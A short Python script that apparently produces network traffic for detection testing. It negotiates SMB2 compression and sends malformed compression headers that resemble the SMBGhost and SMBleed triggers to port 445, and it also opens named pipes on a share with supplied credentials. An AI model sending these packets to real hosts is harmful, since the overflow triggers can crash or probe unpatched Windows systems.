#!/usr/bin/python3
"""Messages of SMB2 that exploits send, without what makes them work, and opens that tools make.

    smb2.py ghost|bleed ADDRESS
    smb2.py open ADDRESS USER PASSWORD SHARE NAME...      opens, writes and reads each
"""
import socket
import struct
import sys

from impacket.smbconnection import SMBConnection


# COMPRESSION_TRANSFORM_HEADER: sizes that overflow; four octets that are to make 4096.
GHOST = b"\xfcSMB" + struct.pack("<LHHL", 32, 1, 0, 0xFFFFFFFF) + b"\0" * 32
BLEED = b"\xfcSMB" + struct.pack("<LHHL", 4096, 1, 0, 0) + b"\x03\x30ABCD"


def compressed(address, message):
    def framed(message):
        return struct.pack(">L", len(message)) + message

    header = b"\xfeSMB" + struct.pack("<HHLHHLLQLLQ16s", 64, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, b"")
    preauth = struct.pack("<HHL", 1, 38, 0) + struct.pack("<HHH32s", 1, 32, 1, b"\x5a\xc3" * 16) + b"\0\0"
    compression = struct.pack("<HHL", 3, 10, 0) + struct.pack("<HHLH", 1, 0, 0, 1)
    dialects = struct.pack("<5H", 0x0202, 0x0210, 0x0300, 0x0302, 0x0311) + b"\0\0"
    negotiate = struct.pack("<HHHHL16sLHH", 36, 5, 1, 0, 0, b"\x81\x37\x0a\xc4\x5e\x92\x43\x7b\xa6\x08\x19\xf2\x3d\x6c\xe1\x54",
                            64 + 36 + len(dialects), 2, 0)
    with socket.create_connection((address, 445), 5) as connection:
        connection.settimeout(2)
        connection.sendall(framed(header + negotiate + dialects + preauth + compression))
        connection.recv(4096)
        connection.sendall(framed(message))
        try:
            connection.recv(4096)
        except OSError:
            pass


def opened(address, user, password, share, *names):
    connection = SMBConnection(address, address)
    connection.login(user, password)
    tree = connection.connectTree(share)
    for name in names:
        try:
            file = connection.openFile(tree, name)
            connection.writeNamedPipe(tree, file, b"hello", True)
            connection.readNamedPipe(tree, file, 8)
            connection.closeFile(tree, file)
        except Exception:  # Refused, which shows as well.
            pass
    connection.close()


if __name__ == "__main__":
    KINDS = {"ghost": lambda address: compressed(address, GHOST), "bleed": lambda address: compressed(address, BLEED), "open": opened}
    KINDS[sys.argv[1]](*sys.argv[2:])
